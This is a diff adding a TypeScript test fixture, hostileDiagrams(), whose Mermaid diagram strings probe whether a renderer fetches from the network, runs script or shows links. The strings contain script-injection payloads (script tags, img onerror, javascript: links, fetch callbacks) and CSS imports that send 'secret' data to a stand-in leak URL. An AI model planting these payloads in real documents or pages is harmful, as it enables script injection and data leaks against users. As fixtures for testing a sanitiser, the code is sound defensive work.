@@ -47,6 +47,43 @@ export function hostileTexts(origin: string): string[] {
   ];
 }
 
+/**
+ * Diagrams that would make a careless renderer ask the network, run a script, offer a link, or look like a part of the panel.
+ *
+ * @param origin where they try to reach
+ */
+export function hostileDiagrams(origin: string): string[] {
+  const url = `${origin}/leak?data=secret`;
+  const options = JSON.stringify({
+    securityLevel: 'loose',
+    htmlLabels: true,
+    flowchart: { htmlLabels: true },
+    themeCSS: `@import "${url}"; * { background: url(${url}) }`,
+    fontFamily: `x; background: url(${url})`,
+  });
+  const label = `<img src='${url}' onerror='fetch(1)'><script>fetch('${url}')</script>`;
+  return [
+    `graph TD; A["${label}"] --> B`,
+    `%%{init: ${options}}%%\ngraph TD; A["${label}"] --> B`,
+    `%%%%{x}%%{init: ${options}}%%\ngraph TD; A --> B`,
+    `---\nconfig: ${options}\n---\ngraph TD\nA["${label}"] --> B`,
+    `---\n---\n---\nconfig: ${options}\n---\ngraph TD\nA["${label}"] --> B`,
+    `graph TD\nA --> B\nclick A href "${url}" _self\nclick B call fetch("${url}")`,
+    `graph TD\nA --> B\nclick A "javascript:fetch('${url}')"`,
+    `graph TD\nA@{ img: "${url}", label: "x", w: 60, h: 60 } --> B`,
+    `graph TD\nA@{ icon: "fa:${url}", label: "x" } --> B`,
+    `graph TD\nA["fa:fa-car ![x](${url})"] --> B["\`![x](${url}) [y](${url})\`"]`,
+    `graph TD\nA --> B\nstyle A fill:url(${url})\nclassDef primary background:url(${url})\nclass A,B primary`,
+    `graph TD\nA:::only-spoken --> B:::button\nlinkStyle 0 stroke:url(${url})`,
+    `graph TD\nA["$$\\\\includegraphics{${url}}$$"] --> B`,
+    `sequenceDiagram\nparticipant A\nlink A: x @ ${url}\nlinks A: {"y": "${url}"}\nproperties A: {"icon": "${url}"}\nA->>B: ${label}`,
+    `classDiagram\nclass A["${label}"]\nlink A "${url}" "x" _blank\ncallback A "fetch"\nA <|-- B`,
+    `stateDiagram-v2\n[*] --> A: ${label}\nclassDef button background:url(${url})\nclass A button`,
+    `erDiagram\nA ||--o{ B : "${label}"\nA {\n string b "${label}"\n}`,
+    `graph TD\naccTitle: ${label}\naccDescr: ${label}\nA --> B`,
+  ];
+}
+
 /** Links that must not be links. */
 export const badLinks: readonly string[] = [
   '[run](command:workbench.action.terminal.new)',
